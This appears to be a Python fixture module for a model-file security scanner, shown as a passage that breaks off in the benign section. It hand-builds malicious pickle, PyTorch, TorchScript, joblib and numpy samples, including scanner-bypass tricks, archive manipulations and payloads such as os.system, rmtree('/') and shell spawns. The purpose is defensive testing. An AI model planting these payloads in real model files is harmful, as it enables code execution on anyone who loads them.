"""Sample builders shared by the tests and ``benchmarks/scanners``.

``MALICIOUS``: (name, builder, expected rule) — each a known attack or scanner bypass,
built from scratch here; nothing in this module unpickles anything. ``BENIGN``:
(name, builder) — real files written by torch, numpy, scikit-learn and joblib.
Builders take a folder and return the path they wrote. ``CORPUS`` is the flat list of
(name, builder, expected verdict) the benchmark runs; the non-pickle formats are appended.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

Builder = Callable[[Path], Path]

# -- a tiny pickle assembler -------------------------------------------------------------
PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
STOP = b"."
MARK = b"("
REDUCE = b"R"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
POP = b"0"
BUILD = b"b"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
SETITEM = b"s"
NONE = b"N"


def u(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE for long text)."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def by(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def g0(module: str, name: str) -> bytes:
    """GLOBAL (text form, any protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two string constants."""
    return u(module) + u(name) + STACK_GLOBAL


def call1(func: bytes, arg: bytes) -> bytes:
    return func + arg + TUPLE1 + REDUCE


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


# If any sample ever ran, this file would appear in the working folder; tests assert it does not.
CANARY = "aisec-pwned-canary"
CMD = f"touch {CANARY}"


class _Reduce:
    """An object whose pickling calls ``func(*args)`` (built with the stdlib pickler)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.func, self.args)


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _bytes_builder(name: str, make: Callable[[], bytes]) -> Builder:
    def build(folder: Path) -> Path:
        return _write(folder, name, make())

    build.__name__ = f"build_{name}"
    return build


# -- payload streams -----------------------------------------------------------------------
def os_system_proto(protocol: int) -> bytes:
    import os

    return pickle.dumps(_Reduce(os.system, CMD), protocol=protocol)


def subprocess_popen() -> bytes:
    return PROTO4 + call1(sg("subprocess", "Popen"), u("id")) + STOP


def builtins_eval() -> bytes:
    return PROTO2 + call1(g0("builtins", "eval"), u("__import__('os').system('id')")) + STOP


def builtins_exec_proto0() -> bytes:
    return g0("__builtin__", "exec") + b"(S'import os'\ntR."


def getattr_import_chain() -> bytes:
    # getattr(__import__('os'), 'system')('id')
    imp = call1(g0("builtins", "__import__"), u("os"))
    ga = g0("builtins", "getattr") + imp + u("system") + TUPLE2 + REDUCE
    return PROTO2 + ga + u("id") + TUPLE1 + REDUCE + STOP


def stack_global_from_memo() -> bytes:
    # the strings are memoised first and fetched back for STACK_GLOBAL
    return (
        PROTO4
        + u("os")
        + put(1)
        + POP
        + u("system")
        + put(2)
        + POP
        + get(1)
        + get(2)
        + STACK_GLOBAL
        + u(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    )


def stack_global_dotted() -> bytes:
    return PROTO4 + call1(sg("pathlib", "os.system"), u(CMD)) + STOP


def stack_global_builtins_dotted() -> bytes:
    # ("builtins", "getattr") reached through a harmless-looking module path
    return PROTO4 + call1(sg("collections", "abc.__builtins__"), u("x")) + STOP


def stack_global_concat() -> bytes:
    # module name built at load time: operator.add("o", "s")
    concat = sg("operator", "add") + u("o") + u("s") + TUPLE2 + REDUCE
    return PROTO4 + concat + u("system") + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE + STOP


def stack_global_dynamic() -> bytes:
    # the module name comes from a call the scanner cannot fold
    name = call1(sg("mylib", "pick_name"), u("x"))
    return PROTO4 + name + u("system") + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE + STOP


def inst_opcode() -> bytes:
    return b"(S'" + CMD.encode() + b"'\nios\nsystem\n."


def obj_pop_hidden_call() -> bytes:
    # OBJ makes the call; POP throws the result away; the stream then returns a benign value
    return PROTO2 + MARK + g0("os", "system") + u(CMD) + b"o" + POP + NONE + STOP


def newobj_ex_popen() -> bytes:
    return PROTO4 + sg("subprocess", "Popen") + u("id") + TUPLE1 + EMPTY_DICT + b"\x92" + STOP


def build_setstate_trick() -> bytes:
    # obj.__dict__.update({'__setstate__': os.system}); then BUILD(cmd) calls it
    obj = call1(sg("collections", "OrderedDict"), EMPTY_TUPLE)[:-2] + EMPTY_TUPLE + REDUCE
    state = EMPTY_DICT + u("__setstate__") + sg("os", "system") + SETITEM
    return PROTO4 + obj + state + BUILD + u(CMD) + BUILD + STOP


def build_on_global() -> bytes:
    # setattr(torch.nn.Module, 'x', ...) style monkeypatching through BUILD on a class
    state = NONE + EMPTY_DICT + u("__call__") + u("patched") + SETITEM + TUPLE2
    return PROTO4 + sg("collections", "OrderedDict") + state + BUILD + STOP


def nullifai_broken() -> bytes:
    # malicious call, then a broken tail: loaders run the call before failing
    good = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)[:-1]
    payload = call1(g0("os", "system"), u(CMD)) + POP
    return good[:2] + payload + good[2:] + b"\xff\xfe garbage"


def second_stream() -> bytes:
    return pickle.dumps({"ok": 1}, protocol=2) + os_system_proto(2)


def nested_pickle_loads() -> bytes:
    inner = os_system_proto(2)
    return PROTO2 + call1(g0("pickle", "loads"), by(inner)) + STOP


def base64_pickle_chain() -> bytes:
    inner = base64.b64encode(os_system_proto(4)).decode()
    decoded = call1(g0("base64", "b64decode"), u(inner))
    return PROTO2 + g0("_pickle", "loads") + decoded + TUPLE1 + REDUCE + STOP


def marshal_function() -> bytes:
    code = call1(g0("marshal", "loads"), by(b"\xe3fake-code-object"))
    fn = g0("types", "FunctionType") + code + EMPTY_DICT + TUPLE2 + REDUCE
    return PROTO2 + fn + EMPTY_TUPLE + REDUCE + STOP


def pkgutil_resolve_name() -> bytes:
    fn = call1(g0("pkgutil", "resolve_name"), u("os:system"))
    return PROTO2 + fn + u(CMD) + TUPLE1 + REDUCE + STOP


def importlib_getattr() -> bytes:
    mod = call1(g0("importlib", "import_module"), u("os"))
    fn = g0("builtins", "getattr") + mod + u("system") + TUPLE2 + REDUCE
    return PROTO2 + fn + u(CMD) + TUPLE1 + REDUCE + STOP


def simple_call(module: str, name: str, arg: str = "x") -> Callable[[], bytes]:
    def make() -> bytes:
        return PROTO4 + call1(sg(module, name), u(arg)) + STOP

    return make


def ext_opcode() -> bytes:
    return PROTO2 + b"\x82\x01" + u(CMD) + TUPLE1 + REDUCE + STOP


def frame_mismatch() -> bytes:
    body = u("a") + u("b") + TUPLE2 + STOP
    # FRAME claims 2 bytes, but its first opcode is longer
    return PROTO4 + b"\x95" + struct.pack("<Q", 2) + body


def memo_overwrite() -> bytes:
    # memo[0] first holds a harmless name, then is overwritten before STACK_GLOBAL reads it
    return (
        PROTO4
        + u("collections")
        + put(0)
        + POP
        + u("os")
        + put(0)
        + POP
        + get(0)
        + u("system")
        + STACK_GLOBAL
        + u(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    )


def memoize_collision() -> bytes:
    # MEMOIZE writes memo[len(memo)]: after PUT 1, len is 1, so MEMOIZE overwrites index 1
    return (
        PROTO4
        + u("builtins")
        + put(1)
        + POP
        + u("os")
        + MEMOIZE
        + POP
        + get(1)
        + u("system")
        + STACK_GLOBAL
        + u(CMD)
        + TUPLE1
        + REDUCE
        + STOP
    )


def unknown_global() -> bytes:
    return PROTO4 + call1(sg("mycompany.models", "CustomNet"), EMPTY_DICT) + STOP


def torch_load_call() -> bytes:
    return PROTO4 + call1(sg("torch", "load"), u("/tmp/other.pt")) + STOP


def numpy_load_pickle() -> bytes:
    args = u("/tmp/x.npy") + NONE + b"\x88" + b"\x87"  # (path, None, True)
    return PROTO4 + sg("numpy", "load") + args + REDUCE + STOP


def attrgetter_chain() -> bytes:
    getter = call1(sg("operator", "attrgetter"), u("system"))
    return PROTO4 + getter + sg("builtins", "object") + TUPLE1 + REDUCE + STOP


def methodcaller_chain() -> bytes:
    caller = sg("operator", "methodcaller") + u("system") + u(CMD) + TUPLE2 + REDUCE
    return PROTO4 + caller + sg("collections", "OrderedDict") + TUPLE1 + REDUCE + STOP


# -- containers ---------------------------------------------------------------------------
def torch_zip(
    data_pkl: bytes, extra: dict[str, bytes] | None = None, root: str = "archive"
) -> bytes:
    """A PyTorch-style zip (stored members, like torch.save)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{root}/data.pkl", data_pkl)
        zf.writestr(f"{root}/byteorder", b"little")
        for name, blob in (extra or {}).items():
            zf.writestr(f"{root}/{name}", blob)
        zf.writestr(f"{root}/version", b"3\n")
    return buf.getvalue()


def _patch_flags(zip_bytes: bytes, member: str, flag: int) -> bytes:
    data = bytearray(zip_bytes)
    name = member.encode()
    # local header: flags at +6; central header: flags at +8
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) >= 0:
        nlen = struct.unpack_from("<H", data, pos + 26)[0]
        if data[pos + 30 : pos + 30 + nlen] == name:
            struct.pack_into("<H", data, pos + 6, struct.unpack_from("<H", data, pos + 6)[0] | flag)
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        nlen = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + nlen] == name:
            struct.pack_into("<H", data, pos + 8, struct.unpack_from("<H", data, pos + 8)[0] | flag)
        pos += 4
    return bytes(data)


def torch_zip_encrypted_flag() -> bytes:
    return _patch_flags(torch_zip(os_system_proto(2)), "archive/data.pkl", 0x1)


def torch_zip_bad_crc() -> bytes:
    data = bytearray(torch_zip(os_system_proto(2)))
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = data.find(sig)
        while pos >= 0:
            struct.pack_into("<I", data, pos + off, 0xDEADBEEF)
            pos = data.find(sig, pos + 4)
    return bytes(data)


def torch_zip_name_mismatch() -> bytes:
    # local header says data.pkl, central directory says a harmless name of equal length
    data = bytearray(torch_zip(os_system_proto(2)))
    pos = data.find(b"PK\x01\x02")
    nlen = struct.unpack_from("<H", data, pos + 28)[0]
    data[pos + 46 : pos + 46 + nlen] = b"archive/data.txt"[:nlen].ljust(nlen, b"_")
    return bytes(data)


def zip_hidden_local_entry() -> bytes:
    """A local entry with a pickle that the central directory does not list."""
    hidden = os_system_proto(2)
    header = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        20,
        0,
        0,
        0,
        0,
        zlib.crc32(hidden),
        len(hidden),
        len(hidden),
        8,
        0,
    )
    prefix = header + b"evil.pkl" + hidden
    out = io.BytesIO()
    out.write(prefix)
    with zipfile.ZipFile(out, "a") as zf:
        zf.writestr("readme.txt", b"nothing to see")
    return out.getvalue()


def zip_member_any_name() -> bytes:
    return torch_zip(pickle.dumps({"ok": 1}), extra={"tokenizer.bin": os_system_proto(4)})


def sevenz_wrapped_torch() -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as sz:
        sz.writestr(torch_zip(os_system_proto(2)), "model.pt")
    return buf.getvalue()


def tar_gz_nested_zip() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("weights/model.pkl", os_system_proto(4))
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tf:
        info = tarfile.TarInfo("bundle/model.zip")
        info.size = len(inner.getvalue())
        tf.addfile(info, io.BytesIO(inner.getvalue()))
    return gzip.compress(tbuf.getvalue())


def zip_bomb_ratio() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.bin", b"\x00" * (32 << 20))
    return buf.getvalue()


def zip_overlapping_entries() -> bytes:
    """Two central entries pointing at the same local data (Fifield's construction)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a.bin", b"A" * 4096)
        zf.writestr("b.bin", b"B" * 4096)
    data = bytearray(buf.getvalue())
    first = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", first + 4)
    local_a = struct.unpack_from("<I", data, first + 42)[0]
    struct.pack_into("<I", data, second + 42, local_a + 1)
    return bytes(data)


def legacy_torch_malicious() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf, _use_new_zipfile_serialization=False)
    raw = buf.getvalue()
    # replace the 4th stream (the objects) with a malicious one, keep the storage tail
    starts = _stream_starts(raw, 5)
    return raw[: starts[3]] + os_system_proto(2) + raw[starts[4] :]


def _stream_starts(raw: bytes, count: int) -> list[int]:
    import pickletools

    starts = [0]
    pos = 0
    for _ in range(count - 1):
        end = 0
        for _op, _arg, at in pickletools.genops(raw[pos:]):
            end = at
        pos = pos + end + 1
        starts.append(pos)
    return starts


def torchscript_malicious_code() -> bytes:
    import torch

    m = torch.jit.script(torch.nn.Linear(2, 2))
    buf = io.BytesIO()
    torch.jit.save(m, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith(".py") and "/code/" in "/" + info.filename:
                data += b"\ndef _evil(self):\n    __import__('os').system('id')\n"
            dst.writestr(info.filename, data)
    return out.getvalue()


def torchscript_malicious_constants() -> bytes:
    import torch

    m = torch.jit.script(torch.nn.Linear(2, 2))
    buf = io.BytesIO()
    torch.jit.save(m, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("constants.pkl"):
                data = os_system_proto(2)
            dst.writestr(info.filename, data)
    return out.getvalue()


def joblib_malicious() -> bytes:
    import os

    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"w": np.ones(8), "hook": _Reduce(os.system, CMD)}, buf)
    return buf.getvalue()


def joblib_array_bytes_differential() -> bytes:
    """Opcodes hidden where joblib expects raw array bytes: joblib skips them, pickle runs them.

    Hand-built in the pre-alignment joblib layout (no padding byte), so the payload is
    both valid uint8 array data for ``joblib.load`` and opcodes for ``pickle.load``.
    """
    payload = g0("os", "system") + u(CMD) + TUPLE1 + REDUCE + POP
    dtype_state = (
        MARK
        + b"K\x03"
        + u("|")
        + NONE * 3
        + b"J\xff\xff\xff\xffJ\xff\xff\xff\xff"
        + b"K\x00"
        + b"t"
    )
    dtype = g0("numpy", "dtype") + u("u1") + b"\x89\x88\x87" + REDUCE + dtype_state + BUILD
    state = (
        EMPTY_DICT
        + MARK
        + u("subclass")
        + g0("numpy", "ndarray")
        + u("shape")
        + b"K"
        + bytes([len(payload)])
        + TUPLE1
        + u("order")
        + u("C")
        + u("dtype")
        + dtype
        + u("allow_mmap")
        + b"\x89"
        + b"u"
    )
    wrapper = g0("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + b"\x81" + state + BUILD
    return PROTO2 + EMPTY_DICT + u("w") + wrapper + payload + SETITEM + STOP


def joblib_zlib_malicious() -> bytes:
    import os

    import joblib

    buf = io.BytesIO()
    joblib.dump({"hook": _Reduce(os.system, CMD)}, buf, compress=("zlib", 3))
    return buf.getvalue()


def npy_object_malicious() -> bytes:
    import numpy as np

    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, header)
    return buf.getvalue() + os_system_proto(3)


def npz_malicious() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("arr_0.npy", npy_object_malicious())
    return buf.getvalue()


def ufunc_reconstruct_import() -> bytes:
    """numpy's ufunc reconstructor as an import primitive: _ufunc_reconstruct('os', 'system')."""
    fn = g0("numpy.core", "_ufunc_reconstruct") + u("os") + u("system") + TUPLE2 + REDUCE
    return PROTO2 + fn + u(CMD) + TUPLE1 + REDUCE + STOP


def torch_package_source() -> bytes:
    """A torch.package archive whose bundled module runs a command when imported."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/model/model.pkl", pickle.dumps({"a": 1}, protocol=3))
        zf.writestr("archive/mymod.py", f"import os\nos.system({CMD!r})\n")
        zf.writestr("archive/.data/extern_modules", "")
        zf.writestr("archive/.data/version", "6\n")
    return buf.getvalue()


def torchscript_load_library() -> bytes:
    """TorchScript code loading a native library (custom op with arbitrary code)."""
    import torch

    m = torch.jit.script(torch.nn.Linear(2, 2))
    buf = io.BytesIO()
    torch.jit.save(m, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith(".py") and "/code/" in "/" + info.filename:
                data += b"\ndef _lib(self):\n    torch.ops.load_library('/tmp/evil.so')\n"
            dst.writestr(info.filename, data)
    return out.getvalue()


def pickle_zip_polyglot() -> bytes:
    """A benign pickle with a malicious PyTorch zip appended (zip readers find the end record)."""
    return pickle.dumps({"config": "ok"}, protocol=2) + torch_zip(os_system_proto(2))


def bz2_pickle() -> bytes:
    return bz2.compress(os_system_proto(4))


# name, builder, rule that must fire
MALICIOUS: list[tuple[str, Builder, str]] = [
    *(
        (
            f"os_system_protocol_{p}",
            _bytes_builder(f"os_system_p{p}.pkl", lambda p=p: os_system_proto(p)),
            "pickle-dangerous-call",
        )
        for p in range(6)
    ),
    ("subprocess_popen", _bytes_builder("popen.pkl", subprocess_popen), "pickle-dangerous-call"),
    ("builtins_eval", _bytes_builder("eval.pkl", builtins_eval), "pickle-dangerous-call"),
    (
        "builtin_exec_proto0",
        _bytes_builder("exec.txt", builtins_exec_proto0),
        "pickle-dangerous-call",
    ),
    (
        "getattr_import_chain",
        _bytes_builder("getattr.pkl", getattr_import_chain),
        "pickle-indirect-call",
    ),
    (
        "stack_global_from_memo",
        _bytes_builder("memo.pkl", stack_global_from_memo),
        "pickle-dangerous-call",
    ),
    (
        "stack_global_dotted_pathlib_os",
        _bytes_builder("dotted.pkl", stack_global_dotted),
        "pickle-dangerous-call",
    ),
    (
        "stack_global_dotted_builtins",
        _bytes_builder("dotted2.pkl", stack_global_builtins_dotted),
        "pickle-dangerous-call",
    ),
    (
        "stack_global_concat",
        _bytes_builder("concat.pkl", stack_global_concat),
        "pickle-dangerous-call",
    ),
    (
        "stack_global_dynamic",
        _bytes_builder("dynamic.pkl", stack_global_dynamic),
        "pickle-dynamic-global",
    ),
    ("inst_opcode", _bytes_builder("inst.pkl", inst_opcode), "pickle-dangerous-call"),
    (
        "obj_pop_hidden_call",
        _bytes_builder("objpop.pkl", obj_pop_hidden_call),
        "pickle-discarded-call",
    ),
    ("newobj_ex_popen", _bytes_builder("newobjex.pkl", newobj_ex_popen), "pickle-dangerous-call"),
    (
        "build_setstate_trick",
        _bytes_builder("setstate.pkl", build_setstate_trick),
        "pickle-build-dunder",
    ),
    ("build_on_global", _bytes_builder("buildglobal.pkl", build_on_global), "pickle-build-global"),
    (
        "nullifai_broken_stream",
        _bytes_builder("nullifai.pkl", nullifai_broken),
        "pickle-dangerous-call",
    ),
    ("second_pickle_stream", _bytes_builder("two.pkl", second_stream), "pickle-dangerous-call"),
    (
        "nested_pickle_loads",
        _bytes_builder("nested.pkl", nested_pickle_loads),
        "pickle-nested-payload",
    ),
    (
        "base64_pickle_chain",
        _bytes_builder("b64.pkl", base64_pickle_chain),
        "pickle-nested-payload",
    ),
    (
        "marshal_function_type",
        _bytes_builder("marshal.pkl", marshal_function),
        "pickle-dangerous-call",
    ),
    (
        "pkgutil_resolve_name",
        _bytes_builder("pkgutil.pkl", pkgutil_resolve_name),
        "pickle-dangerous-call",
    ),
    (
        "importlib_import_module_getattr",
        _bytes_builder("importlib.pkl", importlib_getattr),
        "pickle-dangerous-call",
    ),
    (
        "runpy_run_path",
        _bytes_builder("runpy.pkl", simple_call("runpy", "run_path", "/tmp/x.py")),
        "pickle-dangerous-call",
    ),
    (
        "webbrowser_open",
        _bytes_builder("web.pkl", simple_call("webbrowser", "open", "http://x")),
        "pickle-dangerous-call",
    ),
    (
        "socket_connection",
        _bytes_builder("sock.pkl", simple_call("socket", "create_connection")),
        "pickle-dangerous-call",
    ),
    (
        "shutil_rmtree",
        _bytes_builder("shutil.pkl", simple_call("shutil", "rmtree", "/")),
        "pickle-dangerous-call",
    ),
    (
        "pty_spawn",
        _bytes_builder("pty.pkl", simple_call("pty", "spawn", "/bin/sh")),
        "pickle-dangerous-call",
    ),
    (
        "ctypes_cdll",
        _bytes_builder("ctypes.pkl", simple_call("ctypes", "CDLL", "libc.so.6")),
        "pickle-dangerous-call",
    ),
    (
        "code_interactive_interpreter",
        _bytes_builder("code.pkl", simple_call("code", "InteractiveInterpreter")),
        "pickle-dangerous-call",
    ),
    (
        "posix_system_alias",
        _bytes_builder("posix.pkl", simple_call("posix", "system", CMD)),
        "pickle-dangerous-call",
    ),
    (
        "nt_system_alias",
        _bytes_builder("nt.pkl", simple_call("nt", "system", CMD)),
        "pickle-dangerous-call",
    ),
    (
        "asyncio_subprocess",
        _bytes_builder(
            "asyncio.pkl", simple_call("asyncio.subprocess", "create_subprocess_shell", CMD)
        ),
        "pickle-dangerous-call",
    ),
    (
        "torch_hub_load",
        _bytes_builder("hub.pkl", simple_call("torch.hub", "load", "attacker/repo")),
        "pickle-dangerous-call",
    ),
    ("torch_load_call", _bytes_builder("torchload.pkl", torch_load_call), "pickle-dangerous-call"),
    (
        "numpy_load_allow_pickle",
        _bytes_builder("npload.pkl", numpy_load_pickle),
        "pickle-dangerous-call",
    ),
    (
        "operator_attrgetter",
        _bytes_builder("attrgetter.pkl", attrgetter_chain),
        "pickle-dangerous-call",
    ),
    (
        "operator_methodcaller",
        _bytes_builder("methodcaller.pkl", methodcaller_chain),
        "pickle-dangerous-call",
    ),
    ("ext_opcode_copyreg", _bytes_builder("ext.pkl", ext_opcode), "pickle-ext-opcode"),
    ("memo_overwrite", _bytes_builder("memo2.pkl", memo_overwrite), "pickle-dangerous-call"),
    ("memoize_collision", _bytes_builder("memo3.pkl", memoize_collision), "pickle-dangerous-call"),
    (
        "torch_zip_data_pkl",
        _bytes_builder("model.pt", lambda: torch_zip(os_system_proto(2))),
        "pickle-dangerous-call",
    ),
    (
        "torch_zip_encrypted_flag",
        _bytes_builder("enc.pt", torch_zip_encrypted_flag),
        "pickle-dangerous-call",
    ),
    ("torch_zip_bad_crc", _bytes_builder("crc.pt", torch_zip_bad_crc), "pickle-dangerous-call"),
    (
        "torch_zip_name_mismatch",
        _bytes_builder("names.pt", torch_zip_name_mismatch),
        "zip-name-mismatch",
    ),
    (
        "zip_hidden_local_entry",
        _bytes_builder("hidden.zip", zip_hidden_local_entry),
        "zip-hidden-entry",
    ),
    (
        "zip_member_any_name",
        _bytes_builder("anyname.pt", zip_member_any_name),
        "pickle-dangerous-call",
    ),
    (
        "sevenz_wrapped_torch",
        _bytes_builder("model.7z", sevenz_wrapped_torch),
        "pickle-dangerous-call",
    ),
    (
        "tar_gz_nested_zip",
        _bytes_builder("bundle.tar.gz", tar_gz_nested_zip),
        "pickle-dangerous-call",
    ),
    ("zip_bomb_ratio", _bytes_builder("bomb.zip", zip_bomb_ratio), "archive-bomb"),
    (
        "zip_overlapping_entries",
        _bytes_builder("overlap.zip", zip_overlapping_entries),
        "zip-overlapping-entries",
    ),
    (
        "legacy_torch_malicious",
        _bytes_builder("legacy.pt", legacy_torch_malicious),
        "pickle-dangerous-call",
    ),
    (
        "torchscript_code",
        _bytes_builder("script.pt", torchscript_malicious_code),
        "torchscript-dangerous-code",
    ),
    (
        "torchscript_constants",
        _bytes_builder("script2.pt", torchscript_malicious_constants),
        "pickle-dangerous-call",
    ),
    ("joblib_reduce", _bytes_builder("model.joblib", joblib_malicious), "pickle-dangerous-call"),
    (
        "joblib_array_bytes_differential",
        _bytes_builder("diff.joblib", joblib_array_bytes_differential),
        "pickle-dangerous-call",
    ),
    (
        "joblib_zlib_compressed",
        _bytes_builder("model.joblib.z", joblib_zlib_malicious),
        "pickle-dangerous-call",
    ),
    ("npy_object_array", _bytes_builder("obj.npy", npy_object_malicious), "pickle-dangerous-call"),
    ("npz_object_array", _bytes_builder("obj.npz", npz_malicious), "pickle-dangerous-call"),
    ("bz2_wrapped_pickle", _bytes_builder("model.pkl.bz2", bz2_pickle), "pickle-dangerous-call"),
    (
        "numpy_ufunc_reconstruct_import",
        _bytes_builder("ufunc.pkl", ufunc_reconstruct_import),
        "pickle-dangerous-call",
    ),
    (
        "pydoc_locate_ghsa_5hvc",
        _bytes_builder("pydoc.pkl", simple_call("pydoc", "locate", "os.system")),
        "pickle-dangerous-call",
    ),
    (
        "cprofile_run_ghsa_p523",
        _bytes_builder("cprofile.pkl", simple_call("cProfile", "run", "print(1)")),
        "pickle-dangerous-call",
    ),
    (
        "multiprocessing_spawnv_passfds",
        _bytes_builder("mp.pkl", simple_call("multiprocessing.util", "spawnv_passfds", "/bin/sh")),
        "pickle-dangerous-call",
    ),
    (
        "torch_package_source",
        _bytes_builder("package.pt", torch_package_source),
        "torchscript-dangerous-code",
    ),
    (
        "torchscript_load_library",
        _bytes_builder("lib.pt", torchscript_load_library),
        "torchscript-dangerous-code",
    ),
    (
        "pickle_zip_polyglot",
        _bytes_builder("polyglot.pkl", pickle_zip_polyglot),
        "polyglot-embedded-zip",
    ),
]

# Suspicious, not malicious: imports outside the allowlist, broken framing.
SUSPICIOUS: list[tuple[str, Builder, str]] = [
    ("unknown_global", _bytes_builder("custom.pkl", unknown_global), "pickle-unknown-global"),
    ("frame_length_mismatch", _bytes_builder("frame.pkl", frame_mismatch), "pickle-frame-mismatch"),
]


# -- benign: real files written by the libraries ------------------------------------------
def _torch_models() -> dict[str, object]:
    import torch

    torch.manual_seed(0)
    seq = torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3),
        torch.nn.BatchNorm2d(2),
        torch.nn.ReLU(),
        torch.nn.Flatten(),
        torch.nn.Linear(8, 4),
    )
    lstm = torch.nn.LSTM(4, 4)
    emb = torch.nn.Sequential(torch.nn.Embedding(10, 4), torch.nn.LayerNorm(4), torch.nn.GELU())
    opt = torch.optim.SGD(seq.parameters(), lr=0.1)
    return {"seq": seq, "lstm": lstm, "emb": emb, "opt": opt}


def _torch_file(name: str, what: str, legacy: bool = False) -> Builder:
    def build(folder: Path) -> Path:
        import torch

        models = _torch_models()
        obj: object
        if what == "state_dict":
            obj = models["seq"].state_dict()  # type: ignore[attr-defined]
        elif what == "module":
            obj = models["seq"]
        elif what == "lstm":
            obj = models["lstm"].state_dict()  # type: ignore[attr-defined]
        elif what == "emb_module":
            obj = models["emb"]
        elif what == "optimizer":
            obj = models["opt"].state_dict()  # type: ignore[attr-defined]
        else:  # mixed tensors and plain values
            obj = {
                "epoch": 3,
                "f16": torch.zeros(3, dtype=torch.float16),
                "bf16": torch.ones(2, dtype=torch.bfloat16),
                "i64": torch.arange(5),
                "bool": torch.tensor([True, False]),
                "size": torch.Size([2, 3]),
                "device": torch.device("cpu"),
            }
        path = folder / name
        torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
        return path

    build.__name__ = f"build_{name}"
    return build


def _torchscript_file(name: str) -> Builder:
    def build(folder: Path) -> Path:
        import torch

        model = torch.jit.script(_torch_models()["seq"])  # type: ignore[arg-type]
        path = folder / name
        torch.jit.save(model, str(path))
        return path

    return build


def _numpy_file(name: str, kind: str) -> Builder:
    def build(folder: Path) -> Path:
        import numpy as np

        path = folder / name
        rng = np.random.default_rng(0)
        if kind == "npy":
            np.save(path, rng.normal(size=(16, 8)).astype(np.float32))
        elif kind == "npy_object":
            np.save(path, np.array([{"a": 1}, [1, 2], "text"], dtype=object), allow_pickle=True)
        elif kind == "npz":
            np.savez(path, w=rng.normal(size=(4, 4)), b=np.arange(4))
        else:
            np.savez_compressed(path, w=rng.normal(size=(4, 4)), labels=np.array(["a", "b"]))
        return path

    return build


def _sklearn_estimators() -> dict[str, object]:
    import warnings

    import numpy as np
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    warnings.filterwarnings("ignore")
    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] > 0).astype(int)
    return {
        "logreg": LogisticRegression().fit(x, y),
        "ridge": Ridge().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
        "gboost": GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y),
        "tree": DecisionTreeClassifier(random_state=0).fit(x, y),
        "pipeline": Pipeline([("s", StandardScaler()), ("c", SVC())]).fit(x, y),
        "knn": KNeighborsClassifier().fit(x, y),
